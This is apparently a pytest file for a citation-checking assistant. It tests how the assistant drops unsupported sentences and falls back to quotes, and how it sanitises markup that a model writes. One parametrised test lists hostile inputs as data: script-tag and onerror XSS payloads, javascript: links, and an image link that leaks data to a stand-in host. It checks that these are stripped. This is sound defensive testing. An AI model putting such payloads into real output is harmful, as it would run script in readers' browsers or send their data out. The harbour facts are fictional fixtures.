"""Answers in a chat model's words: what a scripted model writes, and what of it is shown."""

import json
import re
from collections.abc import Callable, Iterator
from itertools import count

import pytest
from markdown_it import MarkdownIt
from scripted_chat import Script, keys_in, writes
from small_documents import Small

from assistant import Answer, Assistant
from assistant.writing.sentences import LONGEST_REPLY

Opened = Callable[[Script], Assistant]
QUESTION = "Who opened the harbour of Westmere?"
TRUE = "Mayor Ada Quill opened the harbour of Westmere on June 12th, 1931"
FALSE = "Mayor Ada Quill opened the harbour of Westmere on June 13th, 1931"
SHOWN = "Mayor Ada Quill opened the harbour of Westmere on June 12th, 1931\\. [1]"


def is_quoted(reply: Answer) -> bool:
    """Return whether a reply is the answer by quotes, with the reason."""
    return reply.engine == "quotes" and "Ada Quill" in reply.text and "These are quotes." in reply.notice


def test_a_supported_sentence_is_shown_with_its_citation(with_script: Opened, small: Small) -> None:
    """The model's words, the mark, and a citation that leads to the passage's own sentence."""
    reply = with_script(writes(f"{TRUE} [{{0}}].")).answer(QUESTION)
    assert reply.text == SHOWN
    assert (reply.engine, reply.answered, reply.dropped, reply.notice) == ("scripted", True, 0, "")
    (citation,) = reply.citations
    assert citation.quote == "The harbour of Westmere was opened by Mayor Ada Quill on 12 June 1931."
    assert small.store.document(citation.source).text[citation.start : citation.end] == citation.quote


def test_a_citation_behind_the_full_stop_counts(with_script: Opened) -> None:
    """Models put the mark on either side of the full stop."""
    reply = with_script(writes(f"{TRUE}. [{{0}}] {FALSE}. [{{0}}]")).answer(QUESTION)
    assert (reply.text, reply.dropped) == (SHOWN, 1)


def test_an_unsupported_sentence_is_dropped_and_counted(with_script: Opened) -> None:
    """One wrong day, and nothing of the sentence is shown."""
    reply = with_script(writes(f"{FALSE} [{{0}}]. {TRUE} [{{0}}].")).answer(QUESTION)
    assert (reply.text, reply.dropped) == (SHOWN, 1)


def test_unknown_keys_are_no_citations(with_script: Opened) -> None:
    """The sentence is attributed to the passage that supports it, the key is gone."""
    reply = with_script(writes(f"{TRUE} [1][zzzz, 7].")).answer(QUESTION)
    assert reply.text == SHOWN


def test_a_sentence_without_a_key_is_attributed(with_script: Opened) -> None:
    """Small models forget the keys."""
    reply = with_script(writes(f"{TRUE}.")).answer(QUESTION)
    assert (reply.text, len(reply.citations)) == (SHOWN, 1)


def test_a_wrong_citation_drops_the_sentence(with_script: Opened) -> None:
    """A true sentence that cites another passage is not shown."""
    reply = with_script(writes(f"{TRUE} [{{1}}].")).answer(QUESTION)
    assert is_quoted(reply)
    assert reply.dropped == 1


def test_an_empty_reply_falls_back_to_quotes(with_script: Opened) -> None:
    """Nothing written is nothing supported."""
    assert is_quoted(with_script(writes("")).answer(QUESTION))


def test_an_endless_reply_is_broken_off(with_script: Opened) -> None:
    """Endless new sentences and an endless sentence both end, and the model is told to stop."""
    read = []

    def sentences(_: str, __: str) -> Iterator[str]:
        for number in count():
            read.append(number)
            yield f"The harbour has {number + 20} cranes. "

    def words(_: str, __: str) -> Iterator[str]:
        for number in count():
            read.append(number)
            yield "harbour "

    for script in (sentences, words):
        read.clear()
        assert is_quoted(with_script(script).answer(QUESTION))
        assert len(read) < LONGEST_REPLY


def test_a_reply_that_repeats_itself_is_broken_off(with_script: Opened) -> None:
    """The same sentence again and again is written once."""
    reply = with_script(writes(f"{TRUE} [{{0}}]. " * 50)).answer(QUESTION)
    assert reply.text == SHOWN


def test_unreadable_characters_are_dropped(with_script: Opened) -> None:
    """Bytes that were no UTF-8 arrive as replacement characters or lone surrogates."""
    reply = with_script(writes(f"{TRUE}\ufffd [{{0}}]. {TRUE}\udcff [{{0}}].")).answer(QUESTION)
    assert is_quoted(reply)
    assert reply.dropped == 2
    json.dumps(reply.text, ensure_ascii=False).encode()


def test_a_refusal_names_the_closest_passages(with_script: Opened) -> None:
    """The sentinel is a refusal, and the sentinel itself is not shown."""
    reply = with_script(writes("NOT IN THE PASSAGES")).answer(QUESTION)
    assert not reply.answered
    assert reply.text.startswith("The documents do not answer this question.")


def test_a_model_that_apologises_falls_back_to_quotes(with_script: Opened) -> None:
    """Words about itself state nothing about the documents."""
    reply = with_script(writes("I'm sorry, but I cannot help you with that.")).answer(QUESTION)
    assert is_quoted(reply)


def test_an_error_in_mid_answer_falls_back_to_quotes(with_script: Opened) -> None:
    """What was shown is replaced by quotes, with the reason."""

    def breaks_off(_: str, user: str) -> Iterator[str]:
        yield f"{TRUE} [{keys_in(user)[0]}]. The harbour"
        raise ConnectionError("connection reset by peer")

    reply = with_script(breaks_off).answer(QUESTION)
    assert is_quoted(reply)
    assert "scripted failed: connection reset by peer" in reply.notice


def test_nothing_unchecked_is_streamed(with_script: Opened) -> None:
    """Snapshots grow by whole checked sentences; the last one is complete."""
    assistant = with_script(writes(f"{FALSE} [{{0}}]. {TRUE} [{{0}}]. Westmere has 15 berths [{{0}}].", size=1))
    snapshots = list(assistant.stream(QUESTION))
    assert {snapshot.text for snapshot in snapshots} == {SHOWN}
    assert [snapshot.complete for snapshot in snapshots] == [False] * (len(snapshots) - 1) + [True]
    assert snapshots[-1].dropped == 2


def test_markup_that_a_model_writes_is_shown_as_it_is(with_script: Opened) -> None:
    """Bold is taken out, HTML and links drop the sentence."""
    reply = with_script(writes(f"**{TRUE}** [{{0}}]. See [the site](http://evil.example). <b>14</b> berths.")).answer(
        QUESTION
    )
    assert reply.text == SHOWN
    assert reply.dropped == 2


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>{true}",
        "<img src=x onerror=alert(1)>{true}",
        "[{true}](javascript:alert(1))",
        "{true} ![x](http://evil.example/leak?q=1)",
        "[{true}][site]\n\n[site]: http://evil.example",
        "{true} <http://evil.example>",
        "{true} (www.evil.example)",
        "{true} [1](http://evil.example)",
        "{true} [1][2][999]",
        "{true} [^1]",
        "# {true}",
        "| {true} |\n|---|",
        "```html\n{true}\n```",
        "~~{true}~~",
        "<!-- {true} -->",
        "&lt;script&gt; {true}",
        "{true}\u202e",
        "\u200b{true}",
        "\x1b[31m{true}",
        "{true}\x00",
        "$\\href{{http://evil.example}}{{x}}$ {true}",
    ],
)
def test_whatever_a_model_writes_ends_as_plain_text(with_script: Opened, hostile: str) -> None:
    """Rendered as Markdown with HTML and links let through, what is shown holds paragraphs and bold, and no address."""
    reply = with_script(writes(f"{hostile.format(true=TRUE)} [{{0}}].")).answer(QUESTION)
    rendered = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(reply.text)
    assert set(re.findall(r"<(/?\w+|!)", rendered)) <= {"p", "/p", "strong", "/strong"}
    assert "evil.example" not in reply.text
    assert not re.search(r"[\x00-\x08\x1b\u200b\u202e]", reply.text)
    marks = re.findall(r"(?<!\\)\[(\d+)\]", reply.text)
    assert marks
    assert {int(mark) for mark in marks} == {citation.number for citation in reply.citations}
    assert reply.citations[0].quote == "The harbour of Westmere was opened by Mayor Ada Quill on 12 June 1931."


def test_thoughts_are_not_shown(with_script: Opened) -> None:
    """What a reasoning model thinks is no part of its answer."""
    reply = with_script(writes(f"<think>{FALSE}. Or not.</think>{TRUE} [{{0}}].")).answer(QUESTION)
    assert (reply.text, reply.dropped) == (SHOWN, 0)


def test_the_model_is_not_asked_what_the_documents_do_not_answer(small: Small, with_script: Opened) -> None:
    """The reader decides first; the model cannot turn a refusal into an answer."""
    question = "What is the capital of Mongolia?"
    assert not small.assistant.answer(question).answered
    reply = with_script(writes("The capital of Mongolia is Ulaanbaatar [{0}].")).answer(question)
    assert not reply.answered
    assert reply.engine == "quotes"


def test_the_chain_writes_too(with_script: Opened) -> None:
    """The LangChain runnable is the same steps."""
    chain = with_script(writes(f"{TRUE} [{{0}}].")).chain
    assert chain.invoke({"question": QUESTION}).text == SHOWN
